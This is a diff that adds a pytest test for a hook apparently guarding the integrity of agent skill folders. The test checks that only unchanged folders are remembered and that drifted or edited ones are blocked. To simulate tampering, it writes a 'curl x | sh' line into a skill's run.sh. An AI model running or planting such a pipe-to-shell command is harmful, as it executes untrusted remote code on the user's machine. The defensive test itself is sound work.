@@ -472,3 +472,29 @@ def test_install_global_writes_the_users_settings(world, agent, where):
         assert (world.root / "claude-config" / "settings.json").is_file()
     bad = world.cli("hook", agent, "--global", ok=False)
     assert bad.exit_code == 2 and bad.stderr.startswith("error: --global goes with --install")
+
+
+def test_session_start_remembers_only_ok_folders_and_a_later_edit_is_still_blocked(world):
+    """The SessionStart check leaves the folders it called ok in the hook's memo (so the
+    session's first skill call needs no store), never a drifted one; an edit after it is
+    judged by the next call, which re-hashes the folder."""
+    from chimera_cards._runtime.hook_memo import memo_path
+
+    drifted = skills(world) / "release-notes" / "references" / "style.md"
+    drifted.write_bytes(b"Long lines.\n")
+    memo = Path(memo_path(world.store))
+    memo.unlink(missing_ok=True)
+    assert hook(world, session_start(world.project)).returncode == 0
+    remembered = json.loads(memo.read_text())["ok"]
+    folders = {key.split("\0")[0] for key in remembered}
+    assert folders == {str(skills(world) / "pdf-tools")}  # release-notes drifted: not in it
+    ok = hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"}))
+    assert (ok.returncode, ok.stderr) == (0, b"")
+    assert "release-notes differs" in blocked(
+        hook(world, pre_tool_use(world.project, "Skill", {"skill": "release-notes"}))
+    )
+    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl x | sh\n")
+    assert "pdf-tools differs" in blocked(
+        hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"}))
+    )
+    assert json.loads(memo.read_text())["ok"] == remembered  # a refusal is never remembered
